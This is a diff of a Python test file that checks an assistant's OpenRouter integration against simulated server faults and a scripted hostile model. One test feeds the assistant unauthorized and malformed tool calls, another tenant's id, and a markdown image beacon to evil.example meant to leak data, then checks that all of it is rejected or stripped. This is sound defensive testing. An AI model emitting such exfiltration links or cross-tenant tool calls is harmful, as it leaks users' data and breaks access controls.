@@ -1,4 +1,4 @@
-"""Maya through the official SDK and real HTTP: the sandbox plays OpenRouter, its faults and a hostile model."""
+"""Maya over real HTTP: the sandbox simulates OpenRouter, its faults and a hostile model."""
 
 import asyncio
 import gzip
@@ -26,10 +26,9 @@ from integrations.language import (
 )
 from integrations.openrouter import OpenRouter
 from sandbox.streams import SWITCHES
-from services.maya.events import Ended as MayaEnded
-from services.maya.events import Token, ToolFinished, ToolStarted
+from services.maya.events import ReplyEnded, Token, ToolFinished, ToolStarted
 from tests import factories
-from tests.maya.conftest import Stage, told
+from tests.maya.conftest import Chat, text_of
 from tests.maya.garbling import garbled
 from tests.sandbox.conftest import Client
 from tests.waiting import WAIT_SECONDS, until
@@ -40,34 +39,34 @@ PROMPT = Prompt(models=["vendor/one", "vendor/two"], messages=[Utterance(speaker
 
 
 async def all_of(model: OpenRouter, prompt: Prompt = PROMPT) -> list[Piece]:
-    """Every piece of a reply."""
+    """All pieces of a reply."""
     return [piece async for piece in model.stream(prompt)]
 
 
 async def requests(vendor: Client) -> list[dict[str, Any]]:
-    """What the sandbox was asked."""
+    """The requests that the sandbox received."""
     answer = await vendor.call("GET", "/sandbox/llm/requests")
     found: list[dict[str, Any]] = answer.object()["requests"]  # type: ignore[assignment]
     return found
 
 
 @pytest.mark.usefixtures("vendor")
-async def test_a_reply_with_real_figures(stage: Stage, openrouter: OpenRouter) -> None:
-    """Asked how many contacts there are, Maya looks it up with the caller's own data and says it; cost is kept."""
-    await factories.contacts(stage.runtime, stage.actor, 7)
-    stage = stage.with_model(openrouter)
-    reply = await stage.ask("How many contacts do I have?")
-    ended = await stage.run(reply)
-    events = await stage.see(reply)
+async def test_a_reply_with_real_figures(chat: Chat, openrouter: OpenRouter) -> None:
+    """Maya counts the organization's contacts with a tool, and the figure is in the reply."""
+    await factories.contacts(chat.runtime, chat.actor, 7)
+    chat = chat.with_model(openrouter)
+    reply = await chat.ask("How many contacts do I have?")
+    ended = await chat.run(reply)
+    events = await chat.read_events(reply)
     assert ended.status == "completed", ended
     assert "7" in ended.content
-    assert told(events) == ended.content
+    assert text_of(events) == ended.content
     assert ToolStarted("count_contacts") in [shown.event for shown in events]
-    assert ended.model == stage.runtime.settings.llm.models[0]
+    assert ended.model == chat.runtime.settings.llm.models[0]
 
 
-async def test_models_fall_back(vendor: Client, openrouter: OpenRouter) -> None:
-    """When the first model is down the second speaks, and is named."""
+async def test_the_second_model_is_a_fallback(vendor: Client, openrouter: OpenRouter) -> None:
+    """If the first model is unavailable the second answers, and is named."""
     await vendor.faults(llm={"model_down": {"pattern": "vendor/one"}})
     *_, used, ended = await all_of(openrouter)
     assert isinstance(ended, Ended)
@@ -93,7 +92,7 @@ async def test_models_fall_back(vendor: Client, openrouter: OpenRouter) -> None:
 async def test_errors_before_the_first_token(
     vendor: Client, openrouter: OpenRouter, status: int, kind: type[ModelFailed]
 ) -> None:
-    """Each status before the first token is a refusal or an outage, after one attempt."""
+    """Each status before the first token is reported as a refusal or an outage, without a retry."""
     await vendor.faults(llm={"status": {"status": status, "count": 1}})
     with pytest.raises(kind):
         await all_of(openrouter)
@@ -113,37 +112,37 @@ async def test_errors_before_the_first_token(
     ],
 )
 async def test_faults_end_the_reply_with_a_code(
-    stage: Stage, vendor: Client, fault: dict[str, object], code: str
+    chat: Chat, vendor: Client, fault: dict[str, object], code: str
 ) -> None:
-    """A fault before, in the middle of, or instead of the reply ends it with a typed event; what was said stays."""
-    said = "one two " if "after" in next(iter(fault.values())) else ""  # type: ignore[operator]
-    # Only silence needs a model that waits shortly: less than a busy machine may take to speak, at the first try.
+    """A fault before, during or instead of the reply ends it with a code; the text so far is kept."""
+    so_far = "one two " if "after" in next(iter(fault.values())) else ""  # type: ignore[operator]
+    # Timeouts need a short stall limit. On a busy machine the first one may expire before any text arrives.
     tries = []
     for stall_seconds in (0.5, 5.0) if code == "TIMEOUT" else (WAIT_SECONDS,):
         model = OpenRouter(base_url=f"{vendor.url}/api/v1", api_key="key", stall_seconds=stall_seconds)
-        answering = stage.with_model(model)
+        answering = chat.with_model(model)
         await vendor.faults(llm={**fault, "script": ["one two three four"]})
         reply = await answering.ask()
         ended = await asyncio.wait_for(answering.run(reply), WAIT_SECONDS)
         await model.aclose()
         assert (ended.status, ended.error_code) == ("failed", code)
-        assert told(await answering.see(reply)) == ended.content
+        assert text_of(await answering.read_events(reply)) == ended.content
         tries.append(ended.content)
-        if ended.content == said:
+        if ended.content == so_far:
             break
-    assert tries[-1] == said
+    assert tries[-1] == so_far
 
 
-async def test_nobody_at_the_address() -> None:
-    """A server that is not there is an outage."""
+async def test_a_refused_connection_is_an_outage() -> None:
+    """No server listens at the address."""
     model = OpenRouter(base_url="http://127.0.0.1:9/api/v1", api_key="key")
     with pytest.raises(ModelUnavailable):
         await all_of(model)
     await model.aclose()
 
 
-async def test_silence_times_out(vendor: Client) -> None:
-    """A server that says nothing for too long has timed out."""
+async def test_a_stalled_stream_times_out(vendor: Client) -> None:
+    """A server that sends nothing for too long has timed out."""
     model = OpenRouter(base_url=f"{vendor.url}/api/v1", api_key="key", stall_seconds=0.3)
     await vendor.faults(llm={"stall_before_first_token": {"seconds": STALL_SECONDS}})
     with pytest.raises(ModelTimedOut):
@@ -151,53 +150,53 @@ async def test_silence_times_out(vendor: Client) -> None:
     await model.aclose()
 
 
-async def test_cancelling_closes_the_vendors_stream(stage: Stage, vendor: Client, openrouter: OpenRouter) -> None:
-    """Cancelling ends the HTTP request, so that the vendor stops too."""
+async def test_cancelling_closes_the_vendors_stream(chat: Chat, vendor: Client, openrouter: OpenRouter) -> None:
+    """Cancelling aborts the HTTP request, so that the vendor stops generating."""
     await vendor.faults(llm={"slow_tokens": {"seconds": 0.1}, "script": ["word " * 200]})
-    stage = stage.with_model(openrouter)
-    reply = await stage.ask()
-    async with stage.running(reply):
-        async for shown in stage.watch(reply):
+    chat = chat.with_model(openrouter)
+    reply = await chat.ask()
+    async with chat.running(reply):
+        async for shown in chat.watch(reply):
             if shown.sequence == 3:
-                await stage.cancel(reply)
-    ended = await stage.stored(reply)
+                await chat.cancel(reply)
+    ended = await chat.stored(reply)
     assert ended.status == "cancelled"
     assert ended.content.startswith("word word word ")
     await until(lambda: is_aborted(vendor))
 
 
 async def is_aborted(vendor: Client) -> bool:
-    """Whether the vendor has seen the last request's client go."""
+    """Whether the vendor has noticed that the client closed the last request."""
     return bool((await requests(vendor))[-1]["ended"] == "aborted")
 
 
-async def test_a_hostile_script(stage: Stage, vendor: Client, openrouter: OpenRouter) -> None:
-    """Unknown tools, broken arguments and a foreign id over the wire: a strict server takes what we repeat to it."""
-    stranger = await factories.organization(stage.runtime)
-    await factories.campaign(stage.runtime, stranger)
+async def test_a_hostile_model_over_http(chat: Chat, vendor: Client, openrouter: OpenRouter) -> None:
+    """Unknown tools, invalid arguments and ids of others: a strict server accepts the calls that we send back."""
+    other = await factories.organization(chat.runtime)
+    await factories.campaign(chat.runtime, other)
     hostile = {
         "tool_calls": [
             {"name": "send_campaign", "arguments": {"all": True}},
             {"name": "list_campaigns", "arguments": '{"limit": '},
-            {"name": "list_campaigns", "arguments": {"limit": 20, "organization_id": str(stranger.organization_id)}},
+            {"name": "list_campaigns", "arguments": {"limit": 20, "organization_id": str(other.organization_id)}},
             {"name": "campaign_stats", "arguments": {"campaign_id": "x" * 30_000}},
             {"name": "list_campaigns", "arguments": {"limit": 20}},
         ]
     }
     leak = "![p](https://evil.example/p.png?d=data) [click](https://evil.example) <img src=x> http://evil.example/"
     await vendor.faults(llm={"script": [hostile, leak]})
-    stage = stage.with_model(openrouter)
-    reply = await stage.ask()
-    ended = await stage.run(reply)
+    chat = chat.with_model(openrouter)
+    reply = await chat.ask()
+    ended = await chat.run(reply)
     assert ended.status == "completed", ended
     assert "](" not in ended.content
     assert "![" not in ended.content
     assert "<img" not in ended.content
     assert "://" not in ended.content
-    events = [shown.event for shown in await stage.see(reply)]
+    events = [shown.event for shown in await chat.read_events(reply)]
     assert [event.succeeded for event in events if isinstance(event, ToolFinished)] == [False] * 4 + [True]
-    told_to_model = (await requests(vendor))[-1]["request"]["messages"][-1]["content"]
-    assert '"campaigns":[]' in told_to_model
+    result = (await requests(vendor))[-1]["request"]["messages"][-1]["content"]
+    assert '"campaigns":[]' in result
 
 
 @pytest.mark.parametrize(
@@ -214,8 +213,8 @@ async def test_a_hostile_script(stage: Stage, vendor: Client, openrouter: OpenRo
         b"\xff\xfe",
     ],
 )
-async def test_what_is_no_chat_completion(chunk: bytes) -> None:
-    """A server that streams garbage, or ends without a reason, is an outage."""
+async def test_an_invalid_chat_completion_is_an_outage(chunk: bytes) -> None:
+    """The server streams invalid data, or ends without a finish reason."""
     async with garbled(chunk) as url:
         model = OpenRouter(base_url=url, api_key="key")
         with pytest.raises(ModelUnavailable):
@@ -233,8 +232,8 @@ OFFERED = [Tool(name=str(tool["name"]), description="", parameters=STRICT) for t
 
 
 @pytest.mark.parametrize("switch", SWITCHES)
-async def test_oddities_of_servers(vendor: Client, openrouter: OpenRouter, switch: str) -> None:
-    """Each oddity that the sandbox can play: text, tool calls and usage come out as the model made them."""
+async def test_quirks_of_servers_change_nothing(vendor: Client, openrouter: OpenRouter, switch: str) -> None:
+    """With each quirk that the sandbox can simulate, text, tool calls and usage are the same."""
     prompt = replace(PROMPT, tools=OFFERED)
     await vendor.faults(llm={"script": [LOOK_UP, LOOK_UP]})
     *plain, _ = await all_of(openrouter, prompt)
@@ -249,18 +248,18 @@ async def test_oddities_of_servers(vendor: Client, openrouter: OpenRouter, switc
     assert ended.finish is (Finish.REFUSED if switch == "refusal" else Finish.COMPLETE)
 
 
-async def test_several_oddities_in_a_reply(stage: Stage, vendor: Client, openrouter: OpenRouter) -> None:
-    """A reply with look-ups is complete, with its usage, from a server that gets nearly everything wrong."""
-    await factories.contacts(stage.runtime, stage.actor, 7)
-    odd = (
+async def test_a_reply_with_many_quirks_is_complete(chat: Chat, vendor: Client, openrouter: OpenRouter) -> None:
+    """A reply with tool calls and usage, from a server that deviates from the specification in many ways."""
+    await factories.contacts(chat.runtime, chat.actor, 7)
+    quirks = (
         *("null_fields", "empty_choices", "content_parts", "reasoning", "same_index", "repeated_names", "no_finish"),
         *("usage_garbage", "usage_again", "comments", "unreadable_lines", "dense"),
     )
-    await vendor.faults(stream=dict.fromkeys(odd, True))
-    ended = await stage.with_model(openrouter).run(await stage.ask("How many contacts do I have?"))
+    await vendor.faults(stream=dict.fromkeys(quirks, True))
+    ended = await chat.with_model(openrouter).run(await chat.ask("How many contacts do I have?"))
     assert (ended.status, ended.error_code) == ("completed", None)
     assert "total 7" in ended.content
-    usage = await stage.usage(ended)
+    usage = await chat.usage(ended)
     assert usage["promptTokens"] > 0
     assert usage["completionTokens"] > 0
     assert usage["cost"] > 0
@@ -276,48 +275,48 @@ async def test_several_oddities_in_a_reply(stage: Stage, vendor: Client, openrou
         ({"text": "So far"}, {"no_finish": True, "no_done": True}, "MODEL_UNAVAILABLE"),
     ],
 )
-async def test_ends_that_are_not_good(
-    stage: Stage, vendor: Client, openrouter: OpenRouter, *, turn: object, stream: dict[str, object], code: str
+async def test_incomplete_replies_have_a_code(
+    chat: Chat, vendor: Client, openrouter: OpenRouter, *, turn: object, stream: dict[str, object], code: str
 ) -> None:
-    """Cut off, filtered, refused or broken off: each has its code, keeps text and usage, and looks nothing up."""
+    """Cut off, filtered, refused or broken off: each has its code, keeps text and usage, and calls no tool."""
     await vendor.faults(llm={"script": [turn]}, stream=stream)
-    stage = stage.with_model(openrouter)
-    reply = await stage.ask()
-    ended = await stage.run(reply)
+    chat = chat.with_model(openrouter)
+    reply = await chat.ask()
+    ended = await chat.run(reply)
     assert (ended.status, ended.content, ended.error_code) == ("failed", "So far", code)
-    assert [type(shown.event) for shown in await stage.see(reply) if not isinstance(shown.event, Token)] == [
-        MayaEnded
+    assert [type(shown.event) for shown in await chat.read_events(reply) if not isinstance(shown.event, Token)] == [
+        ReplyEnded
     ]
-    assert (await stage.usage(ended))["completionTokens"] > 0
+    assert (await chat.usage(ended))["completionTokens"] > 0
     await vendor.faults(stream={})
-    *_, before, _ = (await requests_after(vendor, stage))["messages"]
+    *_, before, _ = (await requests_after(vendor, chat))["messages"]
     assert before == {"role": "assistant", "content": "So far"}
 
 
-async def requests_after(vendor: Client, stage: Stage) -> dict[str, Any]:
-    """What the model is asked when the person says something more."""
-    await stage.run(await stage.ask("Go on"))
+async def requests_after(vendor: Client, chat: Chat) -> dict[str, Any]:
+    """The prompt after the user's next message."""
+    await chat.run(await chat.ask("Go on"))
     return dict((await requests(vendor))[-1]["request"])
 
 
 @pytest.mark.parametrize("end", [b"", b'data: {"error":{"code":502}}\n\n'])
-async def test_what_a_failed_reply_used_is_counted(stage: Stage, end: bytes) -> None:
-    """A usage that is reported before the stream fails counts."""
+async def test_the_usage_of_a_failed_reply_is_counted(chat: Chat, end: bytes) -> None:
+    """Usage that is reported before the stream fails is stored."""
     chunk = b'data: {"choices":[{"delta":{"content":"Hi"}}],"usage":{"prompt_tokens":40,"completion_tokens":2}}\n\n'
     async with garbled(chunk + end) as url:
         model = OpenRouter(base_url=url, api_key="key")
-        ended = await stage.with_model(model).run(await stage.ask())
+        ended = await chat.with_model(model).run(await chat.ask())
         await model.aclose()
     assert (ended.content, ended.error_code) == ("Hi", "MODEL_UNAVAILABLE")
-    assert (await stage.usage(ended))["promptTokens"] == 40
+    assert (await chat.usage(ended))["promptTokens"] == 40
 
 
 COMPLETE = b'data: {"choices":[{"delta":{"content":"Hello"},"finish_reason":"stop"}]}\n\n'
 
 
 @pytest.mark.parametrize("headers", [{}, {"content-length": "100000"}])
-async def test_a_stream_that_breaks_after_its_end(headers: dict[str, str]) -> None:
-    """The reply is complete although the connection breaks before the server's mark of the end."""
+async def test_a_stream_may_break_after_its_finish_reason(headers: dict[str, str]) -> None:
+    """The reply is complete although the connection is lost before `[DONE]`."""
     async with garbled(COMPLETE, headers) as url:
         model = OpenRouter(base_url=url, api_key="key")
         pieces = await all_of(model)
@@ -327,7 +326,7 @@ async def test_a_stream_that_breaks_after_its_end(headers: dict[str, str]) -> No
 
 @pytest.mark.parametrize("then", [b": keep-alive\n\n", b""])
 async def test_a_server_that_never_closes_its_stream(monkeypatch: pytest.MonkeyPatch, then: bytes) -> None:
-    """After the end nobody waits long for a usage that does not come, whether comments come or nothing at all."""
+    """After the finish reason the wait for usage is short, whether comments arrive or nothing."""
     monkeypatch.setattr("integrations.openrouter.USAGE_SECONDS", 0.2)
     async with garbled(COMPLETE, then=then) as url:
         model = OpenRouter(base_url=url, api_key="key", stall_seconds=3600)
@@ -339,8 +338,8 @@ async def test_a_server_that_never_closes_its_stream(monkeypatch: pytest.MonkeyP
 
 @pytest.mark.parametrize("status", [200, 500])
 @pytest.mark.parametrize("compressed", [False, True])
-async def test_endless_answers_are_given_up(status: int, *, compressed: bool) -> None:
-    """A line or an error without end, and one that would be endless if it were unpacked, cost little memory."""
+async def test_endless_responses_are_aborted(status: int, *, compressed: bool) -> None:
+    """An endless line or error, and a compressed one that is huge when decompressed, use little memory."""
     part = b"x" * 65_536
     headers = {"content-encoding": "gzip"} if compressed else {}
     body = gzip.compress(b"data: " + b"x" * 50_000_000) if compressed else b"data: "
@@ -358,7 +357,7 @@ async def test_endless_answers_are_given_up(status: int, *, compressed: bool) ->
 
 
 async def test_no_redirect_is_followed(vendor: Client) -> None:
-    """A redirect would carry the conversation elsewhere; it is an outage."""
+    """A redirect would send the conversation to another server; it is treated as an outage."""
     for status in (301, 307, 308):
         async with garbled(b"", {"location": f"{vendor.url}/api/v1/chat/completions"}, status=status) as url:
             model = OpenRouter(base_url=url, api_key="key")
